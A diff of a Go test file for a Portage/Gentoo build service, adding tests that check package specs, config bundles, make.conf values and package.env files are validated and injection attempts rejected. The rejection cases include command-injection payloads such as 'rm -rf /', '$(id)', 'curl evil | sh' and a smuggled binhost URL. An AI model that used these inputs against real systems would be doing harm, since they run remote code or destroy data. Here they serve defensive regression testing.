@@ -9,10 +9,14 @@ func TestValidatePackageSpec_Valid(t *testing.T) {
 		{Atom: "dev-lang/python:3.11", UseFlags: []string{"ssl", "-tk", "+sqlite"}},
 		{Atom: "sys-devel/gcc", Version: "13.2.0", Keywords: []string{"~amd64", "amd64"}},
 		{Atom: "app-misc/foo", Environment: map[string]string{"MAKEOPTS": "-j8", "CFLAGS": "-O2 -pipe"}},
+		{Atom: "@world"},
+		{Atom: "@preserved-rebuild"},
+		{Atom: "virtual/jdk", Version: "17"},
+		{Atom: "www-client/chromium", MakeOpts: "-j2 -l8.5"},
 	}
 	for _, pkg := range valid {
-		if err := validatePackageSpec(pkg); err != nil {
-			t.Errorf("validatePackageSpec(%+v) unexpectedly failed: %v", pkg, err)
+		if err := ValidatePackageSpec(pkg); err != nil {
+			t.Errorf("ValidatePackageSpec(%+v) unexpectedly failed: %v", pkg, err)
 		}
 	}
 }
@@ -27,41 +31,116 @@ func TestValidatePackageSpec_RejectsInjection(t *testing.T) {
 		{Atom: "dev-lang/python", Environment: map[string]string{"BAD KEY": "value"}},
 		{Atom: "--config-root=/etc"}, // option injection
 		{Atom: ""},
+		{Atom: "@world", Version: "1.0"}, // sets cannot be pinned
+		{Atom: "@"},
+		{Atom: "@world;id"},
+		{Atom: "www-client/chromium", MakeOpts: "-j2 --keep-going"},
+		{Atom: "www-client/chromium", MakeOpts: "-j2\"; reboot"},
 	}
 	for _, pkg := range bad {
-		if err := validatePackageSpec(pkg); err == nil {
-			t.Errorf("validatePackageSpec(%+v) should have been rejected", pkg)
+		if err := ValidatePackageSpec(pkg); err == nil {
+			t.Errorf("ValidatePackageSpec(%+v) should have been rejected", pkg)
 		}
 	}
 }
 
 func TestValidateBundle(t *testing.T) {
-	if err := validateBundle(nil); err == nil {
+	if err := ValidateBundle(nil); err == nil {
 		t.Error("nil bundle should be rejected")
 	}
 
 	empty := &ConfigBundle{Packages: &BuildPackageSpec{}}
-	if err := validateBundle(empty); err == nil {
+	if err := ValidateBundle(empty); err == nil {
 		t.Error("bundle with no packages should be rejected")
 	}
 
 	bad := &ConfigBundle{Packages: &BuildPackageSpec{Packages: []PackageSpec{{Atom: "foo; id"}}}}
-	if err := validateBundle(bad); err == nil {
+	if err := ValidateBundle(bad); err == nil {
 		t.Error("bundle with an injecting atom should be rejected")
 	}
 
 	good := &ConfigBundle{
 		Config:   &PortageConfig{Environment: map[string]string{"MAKEOPTS": "-j4"}},
 		Packages: &BuildPackageSpec{Packages: []PackageSpec{{Atom: "dev-lang/python", Version: "3.11.0"}}},
+		Metadata: BundleMetadata{TargetArch: "amd64"},
 	}
-	if err := validateBundle(good); err != nil {
+	if err := ValidateBundle(good); err != nil {
 		t.Errorf("valid bundle rejected: %v", err)
 	}
 }
 
+func TestValidateBundleMetadataAndMakeConf(t *testing.T) {
+	bundle := func(md BundleMetadata, makeConf map[string]string) *ConfigBundle {
+		return &ConfigBundle{
+			Config:   &PortageConfig{MakeConf: makeConf},
+			Packages: &BuildPackageSpec{Packages: []PackageSpec{{Atom: "app-misc/hello"}}},
+			Metadata: md,
+		}
+	}
+	amd64 := BundleMetadata{TargetArch: "amd64"}
+
+	good := []*ConfigBundle{
+		bundle(BundleMetadata{TargetArch: "arm64", UserID: "alice", Profile: "default/linux/arm64/23.0", CreatedAt: "2026-01-02T15:04:05Z"}, nil),
+		bundle(amd64, map[string]string{"CFLAGS": "-O2 -pipe -march=native", "CXXFLAGS": "${CFLAGS}", "LDFLAGS": "$LDFLAGS -Wl,--as-needed"}),
+	}
+	for _, b := range good {
+		if err := ValidateBundle(b); err != nil {
+			t.Errorf("ValidateBundle(%+v) = %v", b.Metadata, err)
+		}
+	}
+
+	bad := map[string]*ConfigBundle{
+		"no arch":            bundle(BundleMetadata{}, nil),
+		"unknown arch":       bundle(BundleMetadata{TargetArch: "z80"}, nil),
+		"bad created_at":     bundle(BundleMetadata{TargetArch: "amd64", CreatedAt: "yesterday"}, nil),
+		"injecting profile":  bundle(BundleMetadata{TargetArch: "amd64", Profile: "default; rm -rf /"}, nil),
+		"bad key":            bundle(amd64, map[string]string{"USE\nEVIL": "x"}),
+		"closing quote":      bundle(amd64, map[string]string{"CFLAGS": `-O2" ; touch /pwned ; "`}),
+		"newline":            bundle(amd64, map[string]string{"CFLAGS": "-O2\nPORTAGE_BINHOST=http://evil"}),
+		"command":            bundle(amd64, map[string]string{"CFLAGS": "$(id)"}),
+		"backtick":           bundle(amd64, map[string]string{"CFLAGS": "`id`"}),
+		"bare dollar":        bundle(amd64, map[string]string{"CFLAGS": "$"}),
+		"trailing backslash": bundle(amd64, map[string]string{"CFLAGS": `-O2\`}),
+	}
+	for name, b := range bad {
+		if err := ValidateBundle(b); err == nil {
+			t.Errorf("%s: bundle accepted", name)
+		}
+	}
+}
+
 // TestSubmitBuildRejectsInjection is the regression test for the command- and
 // option-injection findings: the LocalBuilder must reject a malicious
 // package_name / USE flag on EVERY path (not just the config-bundle path).
+func TestValidatePackageEnv(t *testing.T) {
+	envFiles := map[string]string{"ok.conf": "# comment\n\nCFLAGS=\"${CFLAGS} -O3\"\nMAKEOPTS=-j4\nFEATURES='test'\n"}
+	if err := validatePackageEnv(map[string]string{"app-misc/hello": "ok.conf"}, envFiles); err != nil {
+		t.Fatalf("validatePackageEnv() = %v", err)
+	}
+
+	bad := []struct {
+		name       string
+		packageEnv map[string]string
+		envFiles   map[string]string
+	}{
+		{"bad atom", map[string]string{"app-misc/hello;rm": "ok.conf"}, envFiles},
+		{"missing env file", map[string]string{"app-misc/hello": "missing.conf"}, envFiles},
+		{"no env file", map[string]string{"app-misc/hello": " "}, envFiles},
+		{"bad file name", nil, map[string]string{"../evil.conf": "X=1"}},
+		{"command", nil, map[string]string{"a.conf": "curl evil | sh\n"}},
+		{"command substitution", nil, map[string]string{"a.conf": "CFLAGS=\"$(curl evil)\"\n"}},
+		{"backtick", nil, map[string]string{"a.conf": "CFLAGS=`id`\n"}},
+		{"unquoted operator", nil, map[string]string{"a.conf": "CFLAGS=-O2;id\n"}},
+		{"early quote", nil, map[string]string{"a.conf": "CFLAGS='a'; id; 'b'\n"}},
+		{"bad key", nil, map[string]string{"a.conf": "1X=1\n"}},
+	}
+	for _, tt := range bad {
+		if err := validatePackageEnv(tt.packageEnv, tt.envFiles); err == nil {
+			t.Errorf("%s: validatePackageEnv() accepted it", tt.name)
+		}
+	}
+}
+
 func TestValidateLocalBuildRequest_RejectsInjection(t *testing.T) {
 	bad := []*LocalBuildRequest{
 		{PackageName: "a/b; touch /pwned #"}, // shell injection (legacy docker path)
@@ -70,6 +149,9 @@ func TestValidateLocalBuildRequest_RejectsInjection(t *testing.T) {
 		{PackageName: "dev-lang/python", Version: "3$(reboot)"},
 		{PackageName: "dev-lang/python", UseFlags: map[string]string{"ssl; rm -rf /": "enabled"}},
 		{PackageName: "dev-lang/python", Environment: map[string]string{"X": "$(id)"}},
+		{PackageName: "dev-lang/python", Environment: map[string]string{"X": "*"}},
+		{PackageName: "dev-lang/python", AcceptLicense: "@FREE\"; id; \""},
+		{PackageName: "dev-lang/python", APIVersion: APIVersion + 1}, // from a newer server
 		{PackageName: ""},
 	}
 	for _, req := range bad {
@@ -83,8 +165,65 @@ func TestValidateLocalBuildRequest_RejectsInjection(t *testing.T) {
 		PackageName: "dev-lang/python",
 		Version:     "3.11.0",
 		UseFlags:    map[string]string{"ssl": "enabled", "-tk": "disabled"},
+		// ACCEPT_LICENSE may carry the "*" wildcard other variables may not.
+		Environment:   map[string]string{"ACCEPT_LICENSE": "* -@EULA"},
+		AcceptLicense: "-* @FREE @BINARY-REDISTRIBUTABLE",
+		APIVersion:    APIVersion,
 	}
 	if err := validateLocalBuildRequest(ok); err != nil {
 		t.Errorf("valid request rejected: %v", err)
 	}
 }
+
+func TestEmergeTarget(t *testing.T) {
+	tests := []struct {
+		target, version, want string
+	}{
+		{"dev-lang/python", "", "dev-lang/python"},
+		{"dev-lang/python", "3.11.0", "=dev-lang/python-3.11.0"},
+		{"virtual/jdk", "17", "=virtual/jdk-17"},
+		{"virtual/jdk", "", "virtual/jdk"},
+		{"@world", "", "@world"},
+		{"@system", "1.0", "@system"},
+		{"dev-lang/python:3.11", "3.11.4", "=dev-lang/python-3.11.4:3.11"},
+		{"media-libs/mesa[vulkan]", "24.1", "=media-libs/mesa-24.1[vulkan]"},
+	}
+	for _, tt := range tests {
+		if got := emergeTarget(tt.target, tt.version); got != tt.want {
+			t.Errorf("emergeTarget(%q, %q) = %q, want %q", tt.target, tt.version, got, tt.want)
+		}
+	}
+}
+
+func TestArtifactCPV(t *testing.T) {
+	tests := map[string]string{
+		"app-misc/jq/jq-1.8.1-1.gpkg.tar":                          "app-misc/jq-1.8.1",
+		"dev-java/openjdk-bin/openjdk-bin-17.0.9_p9-r1-2.gpkg.tar": "dev-java/openjdk-bin-17.0.9_p9-r1",
+		"virtual/jdk-17.tbz2":                                      "virtual/jdk-17",
+		"sys-libs/zlib-1.3-r4.tbz2":                                "sys-libs/zlib-1.3-r4",
+	}
+	for rel, want := range tests {
+		if got := artifactCPV(rel); got != want {
+			t.Errorf("artifactCPV(%q) = %q, want %q", rel, got, want)
+		}
+	}
+}
+
+func TestRecordTargetExpansion(t *testing.T) {
+	job := &BuildJob{Request: &LocalBuildRequest{PackageName: "@system"}}
+	recordTargetExpansion(job, []string{"sys-libs/zlib/zlib-1.3-1.gpkg.tar", "app-shells/bash/bash-5.2_p26-1.gpkg.tar"})
+
+	if job.Metadata["target_type"] != "set" {
+		t.Errorf("target_type = %v, want set", job.Metadata["target_type"])
+	}
+	got, _ := job.Metadata["expanded_to"].([]string)
+	if len(got) != 2 || got[0] != "app-shells/bash-5.2_p26" || got[1] != "sys-libs/zlib-1.3" {
+		t.Errorf("expanded_to = %v", got)
+	}
+
+	plain := &BuildJob{Request: &LocalBuildRequest{PackageName: "app-misc/jq"}}
+	recordTargetExpansion(plain, []string{"app-misc/jq/jq-1.8.1-1.gpkg.tar"})
+	if plain.Metadata != nil {
+		t.Error("a plain atom should not record an expansion")
+	}
+}